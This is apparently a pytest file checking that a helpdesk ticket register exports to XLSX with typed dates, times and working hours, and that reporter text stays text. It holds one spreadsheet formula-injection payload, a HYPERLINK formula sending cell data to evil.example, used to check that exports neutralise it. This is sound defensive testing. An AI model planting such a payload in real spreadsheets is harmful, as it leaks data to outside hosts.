"""The XLSX register: dates, times and working hours are real values (they sort), and text
from a reporter stays text, never a formula."""

from __future__ import annotations

from datetime import date, time
from pathlib import Path

from openpyxl import load_workbook

from desk import Desk, wita
from maild.documents.form_data import form_data
from maild.documents.register import XLSX_COLUMNS, register_rows, to_csv, write_xlsx
from maild.documents.settings import form_settings
from maild.service import actions

ATTACK = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'


def test_register_xlsx_has_dates_and_numbers_and_formula_text_stays_text(tmp_path: Path) -> None:
    desk = Desk(tmp_path)
    try:
        first = desk.open(ATTACK, wita(11, 3, 9), text="-2+3 gagal unggah")
        desk.act(first, wita(11, 3, 10), lambda a: actions.answer(a, "Sedang kami periksa."))
        desk.close(first, wita(11, 4, 14))
        second = desk.open("Tidak bisa login", wita(11, 2, 8))
        with desk.services.factory() as session:
            settings = form_settings(desk.settings)
            rows = register_rows(session, wita(11, 1, 0), wita(12, 1, 0), settings)
            first_form = form_data(session, first, settings)
        out = tmp_path / "r.xlsx"
        write_xlsx(rows, out, "Register")
    finally:
        desk.services.close()
    assert first_form is not None
    sheet = load_workbook(out).active
    header = [c.value for c in sheet[1]]
    assert tuple(header) == XLSX_COLUMNS
    col = {name: i + 1 for i, name in enumerate(header)}
    by_number = {sheet.cell(r, 1).value: r for r in range(2, sheet.max_row + 1)}
    assert set(by_number) == {first, second}
    r1, r2 = by_number[first], by_number[second]

    subject = sheet.cell(r1, col["Subjek"])
    assert subject.value == ATTACK and subject.data_type == "s"
    assert sheet.cell(r1, col["Uraian"]).value.startswith("-2+3") and sheet.cell(r1, col["Uraian"]).data_type == "s"
    assert [c for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []

    received = sheet.cell(r1, col["Tanggal Diterima"])
    assert received.is_date and received.value.date() == date(2026, 11, 3) and received.number_format == "DD-MM-YYYY"
    assert sheet.cell(r1, col["Jam Diterima"]).value == time(9, 0)
    assert sheet.cell(r1, col["Jam Diterima"]).number_format == "HH:MM"
    assert sheet.cell(r1, col["Tanggal Selesai"]).value.date() == date(2026, 11, 4)
    assert sheet.cell(r1, col["Jam Selesai"]).value == time(14, 0)
    response = sheet.cell(r1, col["Tanggapan Pertama (jam kerja)"])
    assert response.data_type == "n" and response.value == first_form.times.response_hours == 1.0
    resolution = sheet.cell(r1, col["Penyelesaian (jam kerja)"]).value
    assert isinstance(resolution, float) and resolution == first_form.times.resolution_hours > 1.0
    assert isinstance(sheet.cell(r1, col["Target Penyelesaian (jam kerja)"]).value, (int, float))
    # Sortable: the second ticket came in first, and an open ticket has no closing moment.
    assert sheet.cell(r2, col["Tanggal Diterima"]).value < received.value
    assert sheet.cell(r2, col["Tanggal Selesai"]).value is None
    # The CSV keeps its text columns, escaped.
    assert "'" + ATTACK.replace('"', '""') in to_csv(rows)
